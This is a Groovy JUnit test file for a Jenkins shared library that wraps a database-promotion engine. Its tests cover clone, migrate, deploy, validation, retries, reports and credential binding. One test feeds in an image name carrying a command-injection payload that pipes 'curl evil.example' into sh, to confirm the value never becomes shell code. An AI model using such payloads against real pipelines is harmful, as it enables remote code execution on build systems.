package dev.dbpromote.jenkins

import static org.junit.jupiter.api.Assertions.assertEquals
import static org.junit.jupiter.api.Assertions.assertFalse
import static org.junit.jupiter.api.Assertions.assertNull
import static org.junit.jupiter.api.Assertions.assertTrue

import org.junit.jupiter.api.Test

/** The single steps (rdsClone, dbMigrate, k8sDeploy, dataValidate, dbSnapshot, dbEnvDestroy, dbPromotionReaper). */
class StepsTest extends LibraryTestBase {

    static final String CLONE_SCRIPT = 'mkdir -p "${DBPROMOTE_OUT%/*}" && "$DBPROMOTE_BIN" clone --config "$DBPROMOTE_ARG_CONFIG"' +
            ' --env "$DBPROMOTE_ARG_ENV" --pr "$DBPROMOTE_ARG_PR" --output json >"$DBPROMOTE_OUT"'

    @Test
    void rdsCloneRunsTheEngineWithValuesOnlyInTheEnvironment() {
        results['clone'] = [success: true, endpoint: 'orders-pr-42.abc.us-west-2.rds.amazonaws.com', database: 'orders']
        envVars.CHANGE_ID = '42'

        Object returned = runPipeline("return rdsClone()")

        assertEquals([CLONE_SCRIPT], shCalls*.script)
        Map env = shCalls[0].env as Map
        assertEquals('dbpromote', env.DBPROMOTE_BIN)
        assertEquals('dbpromote.yaml', env.DBPROMOTE_ARG_CONFIG)
        assertEquals('dev', env.DBPROMOTE_ARG_ENV)
        assertEquals('42', env.DBPROMOTE_ARG_PR)
        assertEquals('.dbpromote/jenkins/clone-dev-pr-42.json', env.DBPROMOTE_OUT)
        assertEquals('dbpromote clone dev-pr-42', shCalls[0].label)
        assertEquals('orders', (returned as Map).database)
        assertEquals('SUCCESS', buildResult())
    }

    @Test
    void switchesAndOptionsAreAddedOnlyWhenSet() {
        runPipeline("rdsClone(pr: '7', fresh: true, dryRun: true)\n" +
                "dbMigrate(env: 'staging', pr: null, target: '2.1')\n" +
                "dataValidate(env: 'dev', pr: '7', suite: 'db/expectations.yaml', strategy: 'single-scan')")

        assertTrue(shCalls[0].script.endsWith('--pr "$DBPROMOTE_ARG_PR" --fresh --dry-run --output json >"$DBPROMOTE_OUT"'))
        assertEquals('mkdir -p "${DBPROMOTE_OUT%/*}" && "$DBPROMOTE_BIN" migrate --config "$DBPROMOTE_ARG_CONFIG" --env "$DBPROMOTE_ARG_ENV"' +
                ' --target "$DBPROMOTE_ARG_TARGET" --output json >"$DBPROMOTE_OUT"', shCalls[1].script)
        assertEquals('2.1', shCalls[1].env.DBPROMOTE_ARG_TARGET)
        assertFalse(shCalls[1].env.containsKey('DBPROMOTE_ARG_PR'))
        assertEquals('mkdir -p "${DBPROMOTE_OUT%/*}" && "$DBPROMOTE_BIN" validate --config "$DBPROMOTE_ARG_CONFIG" --env "$DBPROMOTE_ARG_ENV"' +
                ' --pr "$DBPROMOTE_ARG_PR" --suite "$DBPROMOTE_ARG_SUITE" --strategy "$DBPROMOTE_ARG_STRATEGY" --output json >"$DBPROMOTE_OUT"',
                shCalls[2].script)
        assertEquals('db/expectations.yaml', shCalls[2].env.DBPROMOTE_ARG_SUITE)
    }

    @Test
    void hostileValuesNeverBecomeShellCode() {
        String image = 'registry/orders:1"; curl evil.example | sh; echo "'
        runPipeline("k8sDeploy(env: 'dev', pr: '42', image: '${image.replace("'", "\\'")}')")

        assertEquals('mkdir -p "${DBPROMOTE_OUT%/*}" && "$DBPROMOTE_BIN" deploy --config "$DBPROMOTE_ARG_CONFIG" --env "$DBPROMOTE_ARG_ENV"' +
                ' --pr "$DBPROMOTE_ARG_PR" --image "$DBPROMOTE_ARG_IMAGE" --output json >"$DBPROMOTE_OUT"', shCalls[0].script)
        assertEquals(image, shCalls[0].env.DBPROMOTE_ARG_IMAGE)
    }

    @Test
    void engineFromDbpromoteHomeOrArgument() {
        envVars.DBPROMOTE_HOME = '/opt/dbpromote/'
        runPipeline("dbSnapshot(env: 'production')\ndbSnapshot(env: 'production', engine: '/tools/dbp/bin/dbpromote')")

        assertEquals('/opt/dbpromote/bin/dbpromote', shCalls[0].env.DBPROMOTE_BIN)
        assertEquals('/tools/dbp/bin/dbpromote', shCalls[1].env.DBPROMOTE_BIN)
        assertTrue(shCalls[0].script.contains('"$DBPROMOTE_BIN" snapshot --config "$DBPROMOTE_ARG_CONFIG" --env "$DBPROMOTE_ARG_ENV" --output json'))
    }

    @Test
    void missingEngineSaysHowToInstallIt() {
        engineInstalled = false
        Throwable thrown = runPipelineExpectingFailure("rdsClone(pr: '42')")

        assertTrue(thrown instanceof PipelineError, thrown.toString())
        assertTrue(thrown.message.contains("the dbpromote engine was not found on this agent (looked for 'dbpromote')"), thrown.message)
        assertTrue(thrown.message.contains("mvn -B package -DskipTests"), thrown.message)
        assertTrue(thrown.message.contains("DBPROMOTE_HOME"), thrown.message)
        assertTrue(thrown.message.contains("engine: '/opt/dbpromote/bin/dbpromote'"), thrown.message)
        assertEquals('FAILURE', buildResult())
    }

    @Test
    void unknownArgumentsAreAnErrorNamingTheValidOnes() {
        Throwable thrown = runPipelineExpectingFailure("dbMigrate(env: 'dev', dryrun: true, tagret: '3')")

        assertEquals("dbMigrate: unknown arguments 'dryrun', 'tagret'. Valid arguments: config, credentials, dryRun, engine, env, pr, retries, target." +
                " See dbMigrate on the Pipeline Syntax page.", thrown.message)
        assertEquals([], shCalls)
    }

    @Test
    void missingEnvIsAnError() {
        Throwable thrown = runPipelineExpectingFailure("k8sDeploy(image: 'x')")
        assertTrue(thrown.message.startsWith('k8sDeploy: missing env.'), thrown.message)
        assertEquals([], shCalls)
    }

    @Test
    void externalFailureIsRetriedForIdempotentSteps() {
        exitCodes['clone'] = [3, 3, 0]
        runPipeline("rdsClone(pr: '42')")

        assertEquals(3, shCalls.size())
        assertEquals([[time: 15, unit: 'SECONDS'], [time: 30, unit: 'SECONDS']], mapArgs('sleep'))
        assertEquals('SUCCESS', buildResult())
    }

    @Test
    void externalFailureFailsAfterTheLastAttempt() {
        exitCodes['deploy'] = [3]
        Throwable thrown = runPipelineExpectingFailure("k8sDeploy(env: 'dev', pr: '42', image: 'x', retries: 1)")

        assertEquals(2, shCalls.size())
        assertEquals("k8sDeploy: dbpromote deploy dev-pr-42: an external system (database, AWS, Kubernetes) failed or timed out (exit 3)" +
                " after 2 attempts: simulated deploy failure.", thrown.message)
    }

    @Test
    void migrateIsNotRetried() {
        exitCodes['migrate'] = [3]
        runPipelineExpectingFailure("dbMigrate(env: 'dev', pr: '42')")
        assertEquals(1, shCalls.size())
        assertEquals(0, calls('sleep').size())
    }

    @Test
    void invalidInputFailsWithTheEnginesMessage() {
        exitCodes['clone'] = [2]
        results['clone'] = [success: false, exitCode: 2, error: "Environment 'qa' is not defined in dbpromote.yaml. Defined environments: [dev]."]
        Throwable thrown = runPipelineExpectingFailure("rdsClone(env: 'qa', pr: '42')")

        assertEquals(1, shCalls.size(), 'exit 2 is never retried')
        assertEquals("rdsClone: dbpromote clone qa-pr-42 rejected its input or config (exit 2): Environment 'qa' is not defined in dbpromote.yaml." +
                " Defined environments: [dev]. Nothing was changed; fix the argument or dbpromote.yaml and re-run.", thrown.message)
        assertEquals('FAILURE', buildResult())
    }

    @Test
    void internalErrorSaysToReportIt() {
        exitCodes['snapshot'] = [4]
        Throwable thrown = runPipelineExpectingFailure("dbSnapshot(env: 'production')")
        assertTrue(thrown.message.contains('internal error (exit 4)') && thrown.message.contains('--stacktrace'), thrown.message)
    }

    @Test
    void failedValidationFailsOrWarns() {
        exitCodes['validate'] = [1]
        Throwable thrown = runPipelineExpectingFailure("dataValidate(env: 'dev', pr: '42')")
        assertTrue(thrown.message.startsWith('dataValidate: dbpromote validate dev-pr-42 found problems (exit 1)'), thrown.message)
        assertEquals('FAILURE', buildResult())
    }

    @Test
    void warnOnlyValidationMakesTheBuildUnstable() {
        exitCodes['validate'] = [1]
        Object result = runPipeline("return dataValidate(env: 'staging', pr: null, warnOnly: true)")

        assertEquals('UNSTABLE', buildResult())
        assertEquals(1, calls('unstable').size())
        assertEquals(false, (result as Map).success)
    }

    @Test
    void aWarnOnlyEnvironmentsFailedValidationIsUnstableAtExitZero() {
        results['validate'] = [success: false, warnOnly: true, problem: '1 of 2 expectations failed on orders (warn-only):\n  orders.total: ...']
        runPipeline("dataValidate(env: 'staging', pr: null)")

        assertEquals('UNSTABLE', buildResult())
        assertEquals('dataValidate: dbpromote validate staging found problems: 1 of 2 expectations failed on orders (warn-only):\n  orders.total: ...' +
                ' This environment is warn-only, so the build is UNSTABLE, not failed; see the report.', calls('unstable')[0].args[0].toString())
    }

    @Test
    void theEnginesResultCanSayWarnOnly() {
        exitCodes['validate'] = [1]
        results['validate'] = [success: false, warnOnly: true, summary: '2 of 40 expectations failed']
        runPipeline("dataValidate(env: 'staging', pr: null)")

        assertEquals('UNSTABLE', buildResult())
        assertEquals('dataValidate: dbpromote validate staging found problems (exit 1): 2 of 40 expectations failed. This environment is warn-only,' +
                ' so the build is UNSTABLE, not failed; see the report.', calls('unstable')[0].args[0].toString())
    }

    @Test
    void reportsArePublishedButNeverCredentials() {
        runPipeline("dataValidate(env: 'dev', pr: '42')")

        assertEquals([[testResults: '.dbpromote/junit/validate-dev-pr-42.xml', allowEmptyResults: true]], mapArgs('junit'))
        assertEquals([[artifacts: '.dbpromote/**', excludes: '.dbpromote/credentials/**', allowEmptyArchive: true]], mapArgs('archiveArtifacts'))
        Map html = mapArgs('publishHTML')[0].target as Map
        assertEquals('.dbpromote/html', html.reportDir)
        assertEquals('validate-dev-pr-42.html', html.reportFiles)
    }

    @Test
    void reportsArePublishedWhenTheStepFails() {
        exitCodes['migrate'] = [1]
        runPipelineExpectingFailure("dbMigrate(env: 'dev', pr: '42')")
        assertEquals(1, calls('junit').size())
        assertEquals(1, calls('archiveArtifacts').size())
    }

    @Test
    void withoutHtmlPublisherTheReportIsSkippedWithANote() {
        htmlPublisherInstalled = false
        runPipeline("dataValidate(env: 'dev', pr: '42')")

        assertTrue(calls('echo').any { it.args[0].toString().contains('HTML Publisher plugin not installed') })
        assertEquals('SUCCESS', buildResult())
    }

    @Test
    void configInASubfolderKeepsReportsBesideIt() {
        runPipeline("rdsClone(pr: '42', config: 'services/orders/dbpromote.yaml')")

        assertEquals('services/orders/.dbpromote/jenkins/clone-dev-pr-42.json', shCalls[0].env.DBPROMOTE_OUT)
        assertEquals('services/orders/.dbpromote/**', mapArgs('archiveArtifacts')[0].artifacts)
        assertEquals('services/orders/.dbpromote/credentials/**', mapArgs('archiveArtifacts')[0].excludes)
    }

    @Test
    void credentialsAreBoundAsEnvironmentVariablesOnly() {
        runPipeline("rdsClone(pr: '42', credentials: [aws: 'orders-aws', kubeconfig: 'kube-dev', passwords: [ORDERS_DB_PASSWORD: 'orders-db']])")

        List bindings = calls('withCredentials')[0].args[0] as List
        assertEquals([[binding: 'aws', credentialsId: 'orders-aws', accessKeyVariable: 'AWS_ACCESS_KEY_ID', secretKeyVariable: 'AWS_SECRET_ACCESS_KEY'],
                      [binding: 'file', credentialsId: 'kube-dev', variable: 'KUBECONFIG'],
                      [binding: 'string', credentialsId: 'orders-db', variable: 'ORDERS_DB_PASSWORD']], bindings)
        Map env = shCalls[0].env as Map
        assertEquals(secretOf('orders-db'), env.ORDERS_DB_PASSWORD)
        assertEquals(secretOf('orders-aws'), env.AWS_SECRET_ACCESS_KEY)
        assertEquals('/tmp/secretFiles/kube-dev', env.KUBECONFIG)
        assertFalse(shCalls[0].script.contains('S3cr3t'), 'a secret in the sh command line')
        assertFalse(envVars.containsKey('ORDERS_DB_PASSWORD'), 'bound only while the step runs')
    }

    @Test
    void withoutCredentialsNothingIsBound() {
        runPipeline("rdsClone(pr: '42')")
        assertEquals(0, calls('withCredentials').size())
        assertFalse(shCalls[0].env.containsKey('AWS_ACCESS_KEY_ID'), "the agent's own role is used")
    }

    @Test
    void unknownCredentialKeysAreAnError() {
        Throwable thrown = runPipelineExpectingFailure("rdsClone(pr: '42', credentials: [db: 'orders-db'])")
        assertTrue(thrown.message.startsWith("credentials: unknown key 'db'. Valid keys: aws"), thrown.message)
        assertEquals([], shCalls)
    }

    @Test
    void destroyAndReap() {
        envVars.CHANGE_ID = '42'
        runPipeline("dbEnvDestroy()\ndbPromotionReaper(label: 'dbpromote')")

        assertEquals(['env destroy dev-pr-42', 'check', 'env reap'], engineRuns())
        assertTrue(shCalls[0].script.contains('"$DBPROMOTE_BIN" env destroy --config "$DBPROMOTE_ARG_CONFIG" --env "$DBPROMOTE_ARG_ENV" --pr "$DBPROMOTE_ARG_PR"'))
        assertEquals(['dbpromote'], shCalls[2].nodes)
        assertEquals(['Reap expired environments'], stages())
        assertEquals([], mapArgs('junit'), 'env destroy and env reap write no JUnit XML, so junit is not called (Jenkins would say "No test report files were found")')
    }

    @Test
    void destroyNeedsAPullRequest() {
        Throwable thrown = runPipelineExpectingFailure("dbEnvDestroy()")
        assertTrue(thrown.message.startsWith('dbEnvDestroy: missing pr.'), thrown.message)
    }

    @Test
    void withThePluginInstalledTheVarsCallItsStepsAndStillPublishTheReports() {
        envVars.DBPROMOTE_PLUGIN = '0.1.0' // what the plugin puts into every Pipeline build
        envVars.CHANGE_ID = '42'
        PluginSteps plugin = new PluginSteps()
        binding.setVariable('steps', plugin)
        files['.dbpromote/junit/migrate-staging.xml'] = '<testsuites/>'

        Object returned = runPipeline("rdsClone(fresh: true)\nreturn dbMigrate(env: 'staging', pr: null, target: '2.1')")

        assertEquals([], shCalls, 'the plugin runs the engine, not sh')
        assertEquals(['rdsClone', 'dbMigrate'], plugin.calls.collect { it[0] })
        assertEquals([config: 'dbpromote.yaml', credentials: [:], dryRun: false, env: 'dev', pr: '42', fresh: true, retries: 2],
                plugin.calls[0][1])
        Map migrate = plugin.calls[1][1] as Map
        assertTrue(migrate.containsKey('pr'), 'an explicit pr: null (a fixed environment) reaches the step')
        assertNull(migrate.pr)
        assertFalse(migrate.containsKey('engine'), 'unset arguments are left to the step')
        assertEquals('2.1', migrate.target)
        assertEquals('dbMigrate', (returned as Map).step)
        assertEquals([[testResults: '.dbpromote/junit/migrate-staging.xml', allowEmptyResults: true]], mapArgs('junit'))
    }

    @Test
    void withEnvCanKeepTheLibrarysOwnImplementationWithThePluginInstalled() {
        envVars.DBPROMOTE_PLUGIN = '0.1.0'
        PluginSteps plugin = new PluginSteps()
        binding.setVariable('steps', plugin)

        runPipeline("withEnv(['DBPROMOTE_PLUGIN=']) { rdsClone(pr: '42') }")

        assertEquals([], plugin.calls)
        assertEquals([CLONE_SCRIPT], shCalls*.script)
    }
}
